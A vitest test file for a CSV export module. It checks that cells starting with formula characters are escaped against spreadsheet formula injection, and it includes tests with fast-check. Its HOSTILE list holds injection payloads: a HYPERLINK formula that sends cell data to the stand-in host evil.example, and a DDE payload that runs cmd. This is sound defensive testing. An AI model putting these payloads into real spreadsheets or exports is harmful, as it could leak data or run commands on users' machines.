import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvFile, FORMULA_CHARACTERS, FORMULA_START, neutraliseFormula, PLAIN_NUMBER, spreadsheetCell } from './csv-file';

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '=1+1',
  '+1+cmd|\' /C calc\'!A0',
  '-2+3',
  '-1-1',
  '-',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '-1e3',
  '-.5',
  '+5',
];

describe('neutraliseFormula', () => {
  it.each(HOSTILE)('keeps %j as text with a leading apostrophe', (text) => {
    expect(neutraliseFormula(text)).toBe(`'${text}`);
  });

  it.each(["Gaston County Sheriff's Office", 'a=b', '', 'Town of Mount Holly', "'=already text", ' =1', '2025-Q3', 'gross_cost - federal_reimbursement'])(
    'leaves %j as it is',
    (text) => {
      expect(neutraliseFormula(text)).toBe(text);
    },
  );

  it.each(['-1234.50', '-3', '0', '12.5', '-0.01'])('leaves the plain decimal number %j a number', (text) => {
    expect(neutraliseFormula(text)).toBe(text);
  });

  it('covers each character of its list', () => {
    for (const char of FORMULA_CHARACTERS) expect(neutraliseFormula(`${char}x`)).toBe(`'${char}x`);
  });
});

describe('spreadsheetCell', () => {
  it('writes numbers as numbers, negative ones included, and null as an empty cell', () => {
    expect(spreadsheetCell(-3)).toBe('-3');
    expect(spreadsheetCell(-12.5)).toBe('-12.5');
    expect(spreadsheetCell(-7n)).toBe('-7');
    expect(spreadsheetCell(null)).toBe('');
    expect(spreadsheetCell(undefined)).toBe('');
    expect(spreadsheetCell('=1')).toBe("'=1");
  });
});

describe('csvFile', () => {
  it('writes a BOM and CRLF by default, and neutralises every cell, the header included', () => {
    const text = csvFile([
      ['name', '=header'],
      ['=HYPERLINK("http://evil.example","x")', -3],
      ['Sheriff, "Town"', null],
    ]);
    expect(text).toBe('\uFEFFname,\'=header\r\n"\'=HYPERLINK(""http://evil.example"",""x"")",-3\r\n"Sheriff, ""Town""",\r\n');
  });

  it('writes LF and no BOM when asked (the English agreements file)', () => {
    expect(csvFile([['a', '@b'], ['1', '-2']], { bom: false, recordDelimiter: '\n' })).toBe("a,'@b\n1,-2\n");
  });

  it('quotes a cell with a bare LF or CR, so a later line of it cannot start a row with a formula', () => {
    const text = csvFile([['Reason\n=HYPERLINK("http://evil.example","x")', 'a\rb']]);
    expect(text).toBe('\uFEFF"Reason\n=HYPERLINK(""http://evil.example"",""x"")","a\rb"\r\n');
    expect(parse(text, { bom: true })).toEqual([['Reason\n=HYPERLINK("http://evil.example","x")', 'a\rb']]);
  });

  it('gives back every text exactly, minus the apostrophe it added, and no cell a spreadsheet would run', () => {
    const cell = fc.oneof(
      fc.string({ unit: 'grapheme' }),
      fc.tuple(fc.constantFrom(...FORMULA_CHARACTERS), fc.string()).map(([start, rest]) => start + rest),
      fc.constantFrom(...HOSTILE),
      fc.integer().map(String),
    );
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 1, maxLength: 4 }), { minLength: 1, maxLength: 4 }), (rows) => {
        const read = parse(csvFile(rows), { bom: true, relax_column_count: true }) as string[][];
        expect(read).toHaveLength(rows.length);
        read.forEach((row, i) =>
          row.forEach((value, j) => {
            const original = rows[i][j];
            expect(FORMULA_START.test(value) && !PLAIN_NUMBER.test(value)).toBe(false);
            expect(value === original || value === `'${original}`).toBe(true);
          }),
        );
      }),
      { numRuns: 300 },
    );
  });
});
